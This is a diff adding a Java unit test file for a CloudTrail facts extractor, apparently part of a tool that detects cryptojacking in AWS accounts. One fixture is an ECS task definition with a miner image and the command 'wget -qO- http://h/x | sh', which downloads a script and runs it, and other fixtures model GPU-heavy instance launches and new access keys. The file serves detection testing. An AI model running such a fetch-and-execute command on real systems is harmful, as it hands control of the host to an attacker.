@@ -1,0 +1,106 @@
+package io.trailsentry.cloudtrail;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import org.junit.jupiter.api.Test;
+
+class FactsExtractorTest {
+    private static JsonNode json(String s) throws Exception {
+        return TestRecords.MAPPER.readTree(s.replace('\'', '"'));
+    }
+
+    @Test
+    void runInstancesRequestAndResponse() throws Exception {
+        RequestFacts f =
+                FactsExtractor.extract(
+                        json(
+                                "{'instancesSet':{'items':[{'imageId':'ami-1','minCount':10,'maxCount':10}]},"
+                                        + "'instanceType':'g4dn.12xlarge','disableApiTermination':true}"),
+                        json(
+                                "{'instancesSet':{'items':[{'instanceId':'i-1'},{'instanceId':'i-2'}]}}"));
+        assertThat(f.instanceTypes).containsExactly("g4dn.12xlarge");
+        assertThat(f.instanceCount).isEqualTo(10);
+        assertThat(f.disableApiTermination).isTrue();
+        assertThat(f.instanceIds).containsExactly("i-1", "i-2");
+    }
+
+    @Test
+    void modifyInstanceAttributeValueObject() throws Exception {
+        RequestFacts on =
+                FactsExtractor.extract(
+                        json("{'instanceId':'i-9','disableApiTermination':{'value':true}}"), null);
+        assertThat(on.disableApiTermination).isTrue();
+        assertThat(on.instanceIds).containsExactly("i-9");
+        RequestFacts off =
+                FactsExtractor.extract(json("{'disableApiTermination':{'value':false}}"), null);
+        assertThat(off.disableApiTermination).isFalse();
+    }
+
+    @Test
+    void autoScalingGroupSizesAndMixedInstanceTypes() throws Exception {
+        RequestFacts f =
+                FactsExtractor.extract(
+                        json(
+                                "{'autoScalingGroupName':'g','minSize':20,'maxSize':999,'desiredCapacity':'20',"
+                                        + "'newInstancesProtectedFromScaleIn':true,"
+                                        + "'mixedInstancesPolicy':{'launchTemplate':{'overrides':"
+                                        + "[{'instanceType':'p3.16xlarge'},{'instanceType':'g5.12xlarge'}]}}}"),
+                        null);
+        assertThat(f.autoScalingGroupName).isEqualTo("g");
+        assertThat(f.requestedCapacity()).isEqualTo(999);
+        assertThat(f.desiredCapacity).isEqualTo(20);
+        assertThat(f.protectedFromScaleIn).isTrue();
+        assertThat(f.instanceTypes).containsExactly("p3.16xlarge", "g5.12xlarge");
+    }
+
+    @Test
+    void ecsTaskDefinitionImagesCommandsAndSize() throws Exception {
+        RequestFacts f =
+                FactsExtractor.extract(
+                        json(
+                                "{'family':'w','cpu':'4096','memory':'8192','containerDefinitions':["
+                                        + "{'image':'docker.io/x/miner:latest','entryPoint':['sh','-c'],"
+                                        + "'command':['wget -qO- http://h/x | sh']}]}"),
+                        json(
+                                "{'taskDefinition':{'taskDefinitionArn':'arn:aws:ecs:r:1:task-definition/w:1'}}"));
+        assertThat(f.images).containsExactly("docker.io/x/miner:latest");
+        assertThat(f.containerCommands).isEqualTo("sh -c wget -qO- http://h/x | sh");
+        assertThat(f.cpu).isEqualTo(4096);
+        assertThat(f.memory).isEqualTo(8192);
+        assertThat(f.taskDefinition).isEqualTo("arn:aws:ecs:r:1:task-definition/w:1");
+    }
+
+    @Test
+    void createFleetCapacityAndCreatedAccessKey() throws Exception {
+        RequestFacts fleet =
+                FactsExtractor.extract(
+                        json(
+                                "{'CreateFleetRequest':{'TargetCapacitySpecification':{'TotalTargetCapacity':40},"
+                                        + "'LaunchTemplateConfigs':{'Overrides':{'InstanceType':'p3.8xlarge'}}}}"),
+                        null);
+        assertThat(fleet.instanceCount).isEqualTo(40);
+        assertThat(fleet.instanceTypes).containsExactly("p3.8xlarge");
+
+        RequestFacts key =
+                FactsExtractor.extract(
+                        json("{'userName':'u'}"), json("{'accessKey':{'accessKeyId':'AKIANEW'}}"));
+        assertThat(key.userName).isEqualTo("u");
+        assertThat(key.createdAccessKeyId).isEqualTo("AKIANEW");
+    }
+
+    @Test
+    void hostileRequestsAreBounded() throws Exception {
+        StringBuilder sb = new StringBuilder("{'items':[");
+        for (int i = 0; i < 10_000; i++) {
+            sb.append(i == 0 ? "" : ",").append("{'instanceType':'t").append(i).append("'}");
+        }
+        RequestFacts f =
+                FactsExtractor.extract(json(sb + "],'roleName':'" + "r".repeat(5000) + "'}"), null);
+        assertThat(f.instanceTypes).hasSize(FactsExtractor.MAX_ITEMS);
+        assertThat(f.roleName).isNull(); // beyond the node budget: not visited
+        RequestFacts longName =
+                FactsExtractor.extract(json("{'roleName':'" + "r".repeat(5000) + "'}"), null);
+        assertThat(longName.roleName.length()).isLessThanOrEqualTo(FactsExtractor.MAX_STRING);
+    }
+}
